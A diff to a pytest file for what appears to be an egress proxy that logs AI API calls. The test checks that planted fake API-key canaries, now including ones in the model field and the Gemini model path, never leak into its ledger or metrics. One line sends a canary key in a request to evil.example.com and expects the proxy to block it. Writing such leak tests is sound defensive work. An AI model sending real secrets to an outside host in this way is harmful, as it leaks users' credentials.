@@ -26,8 +26,10 @@ XKEY_CANARY = "sk-ant-api03-" + "LedgerXKeyCanary" + "Zq8R" * 20
 QUERY_CANARY = "AIzaLedgerQueryCanary_0123456789abcde"
 LABEL_CANARY = "fencelabelcanary-k4w9"  # a code fence's label and a Gemini executableCode language
 USERINFO_CANARY = "userinfo-canary-pw-5t8e"
+MODEL_CANARY = "ghp_" + "ModelFieldCanary7Hq2Lw9Xr4Tz6Nb1Vc8Mk"  # a secret in the model field: safe characters only
+PATH_MODEL_CANARY = "PathModelCanary8d2K7q9R4t1W6y3B5n0M"  # a key-like Gemini model segment
 CANARIES = [BODY_CANARY, PROSE_CANARY, AUTH_CANARY, XKEY_CANARY, QUERY_CANARY, LABEL_CANARY, USERINFO_CANARY,
-            "LedgerBodyCanary", "LedgerAuthCanary"]
+            MODEL_CANARY, PATH_MODEL_CANARY, "LedgerBodyCanary", "LedgerAuthCanary", "ModelFieldCanary"]
 
 
 def ledger(airlock, *args: str, check: bool = False) -> subprocess.CompletedProcess:
@@ -114,9 +116,12 @@ def test_no_canary_anywhere(airlock, standin):
         sock.sendall(f"POST http://user:{USERINFO_CANARY}@api.openai.com/v1/chat/completions?key={QUERY_CANARY} HTTP/1.1\r\n"
                      "Host: api.openai.com\r\nContent-Length: 2\r\n\r\n{}".encode())
         assert read_response(sock).startswith(b"HTTP/1.1 400")  # userinfo in a request target is refused
+    session.post("https://api.openai.com/v1/chat/completions", json={**chat("hi"), "model": MODEL_CANARY}, timeout=20)
+    session.post(f"https://generativelanguage.googleapis.com/v1beta/models/{PATH_MODEL_CANARY}:generateContent",
+                 json={"contents": [{"parts": [{"text": "hello"}]}]}, timeout=20)
     with pytest.raises(requests.exceptions.ProxyError):
         session.get(f"https://evil.example.com/?key={QUERY_CANARY}", timeout=20)
-    wait_for(lambda: len(records(airlock)) >= 9)
+    wait_for(lambda: len(records(airlock)) >= 11)
     detectors = ledger(airlock, "stats", "--by", "detector").stdout
     assert b"code-code" in detectors
     metrics = requests.get(f"http://127.0.0.1:{airlock.admin_port}/metrics", timeout=5).content
